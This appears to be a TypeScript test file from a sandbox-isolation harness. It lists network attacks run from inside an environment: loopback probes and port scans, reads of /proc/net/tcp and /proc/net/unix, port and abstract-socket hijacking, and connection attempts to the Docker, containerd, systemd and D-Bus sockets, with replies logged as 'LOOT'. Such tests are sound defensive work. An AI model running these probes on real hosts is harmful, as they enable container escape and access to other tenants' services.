import { type Attack, program } from "../support/attack";

const loopback = "A9 · services on loopback";
const ports = "ports of others";
const sockets = "sockets of others";

const get = `
const get = (host, port) => new Promise((resolve) => {
  const socket = net.connect({ host, port, timeout: 1_500 });
  let text = "";
  socket.on("connect", () => socket.write("GET / HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n"));
  socket.on("data", (chunk) => { text += chunk; if (text.length > 4_096) socket.destroy(); });
  socket.on("timeout", () => socket.destroy());
  socket.on("error", (error) => say("refused " + host + ":" + port + " " + error.code));
  socket.on("close", () => { if (text) say("LOOT " + host + ":" + port + " " + JSON.stringify(text)); resolve(text); });
});`;

/** Attacks over the network of the host: loopback, ports and sockets. */
export const networkAttacks: Attack[] = [
  program(
    {
      id: "portal-on-loopback",
      of: loopback,
      aim: "the portal as if from the machine itself",
      needs: "network",
    },
    `${get} for (const host of ["127.0.0.1", "localhost", "0.0.0.0", "127.0.0.2", "127.1.2.3", "::1", "::ffff:127.0.0.1"]) await get(host, T.portalPort);`,
  ),
  program(
    { id: "loopback-scan", of: loopback, aim: "whatever listens on loopback", needs: "network" },
    `${get} for (let port = T.ports[0]; port <= T.ports[1]; port += 1) if (String(port) !== process.env.PORT) { const text = (await get("127.0.0.1", port)) + (await get("127.0.0.2", port)); if (text && port === T.victim.port) break; }
     const table = fs.readFileSync("/proc/net/tcp", "utf8").split("\\n").map((line) => line.trim().split(/\\s+/)).filter((fields) => fields[3] === "0A").map((fields) => Number.parseInt(fields[1].split(":")[1], 16));
     say("listening: " + table.join(" "));
     if (table.includes(T.portalPort)) reach("the table of the host's sockets");`,
    { waitMs: 20_000 },
  ),
  program(
    { id: "neighbor-on-loopback", of: ports, aim: "another environment's port", needs: "network" },
    `${get} for (const host of ["127.0.0.1", "localhost", T.victim.host]) await get(host, T.victim.port);`,
  ),
  {
    ...program(
      { id: "bind-unreserved", of: ports, aim: "a port of the host that it was not given", needs: "network" },
      `const from = T.ports[1] + 20;
       for (let port = from; port < from + 5; port += 1) net.createServer((socket) => socket.end("TAKEN")).on("error", (error) => say(error.code)).listen(port, "0.0.0.0");
       await sleep(400);`,
      {
        after: async (arena) => {
          const from = arena.field.portRange[1] + 20;
          for (let port = from; port < from + 5; port += 1) {
            for (const host of ["127.0.0.1", arena.field.victim.host]) {
              if ((await arena.field.answerOn(port, host)).includes("TAKEN"))
                arena.reach(`a port of the host: ${host}:${port}`);
            }
          }
        },
      },
    ),
  },
  program(
    {
      id: "bind-beside",
      of: ports,
      aim: "connections that are meant for another environment",
      needs: "network",
    },
    `cp.spawn("/usr/bin/perl", [join(here, "kit.pl"), "reusePort", String(T.victim.port), "8"], { detached: true, stdio: "inherit" }).unref();
     for (const host of ["127.0.0.1", "0.0.0.0", "::", T.victim.host]) net.createServer((socket) => socket.end("TAKEN")).on("error", (error) => say(host + " " + error.code)).listen(T.victim.port, host);
     await sleep(1_000);`,
    {
      after: async (arena) => {
        const { victim } = arena.field;
        for (let count = 0; count < 12; count += 1) {
          const answers = [
            await arena.field.answerOn(victim.port, victim.host),
            await arena.field.answerOn(victim.port, "127.0.0.1"),
            await arena.field.answerOn(victim.port, "::1"),
          ];
          if (answers.some((text) => text.includes("TAKEN"))) arena.reach("another environment's address");
        }
      },
    },
  ),
  program(
    { id: "abstract-socket", of: sockets, aim: "an abstract socket of the host", needs: "network" },
    `await new Promise((resolve) => { const socket = net.connect("\\0" + T.abstractName); socket.on("data", (chunk) => say("LOOT " + chunk)); socket.on("error", (error) => { say("refused " + error.code); resolve(); }); socket.on("close", resolve); });
     const names = attempt("", () => fs.readFileSync("/proc/net/unix", "latin1")) ?? "";
     if (names.includes(T.abstractName)) reach("the names of the host's sockets");`,
  ),
  program(
    {
      id: "abstract-listener",
      of: sockets,
      aim: "an abstract name that others connect to",
      needs: "network",
    },
    `net.createServer((socket) => socket.end("TAKEN")).on("error", (error) => say(error.code)).listen("\\0" + token); await sleep(300);`,
    {
      after: async (arena) => {
        if ((await arena.field.answerAt(`\0${arena.token}`)).includes("TAKEN"))
          arena.reach("an abstract name of the host");
      },
    },
  ),
  program(
    { id: "socket-files", of: sockets, aim: "a worker, an engine or a bus by its socket's file" },
    `const talk = (path) => new Promise((resolve) => { const socket = net.connect(path); socket.setTimeout(1_000, () => socket.destroy()); socket.on("connect", () => { if (!path.startsWith(T.base) || fs.existsSync(path)) reach("a connection to " + path); }); socket.on("data", (chunk) => say("LOOT " + chunk)); socket.on("error", (error) => { say("refused " + path + " " + error.code); resolve(); }); socket.on("close", resolve); });
     for (const path of [...T.sockets, "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/run/user/" + process.getuid() + "/bus", "/tmp/.X11-unix/X0"]) await talk(path);`,
  ),
];
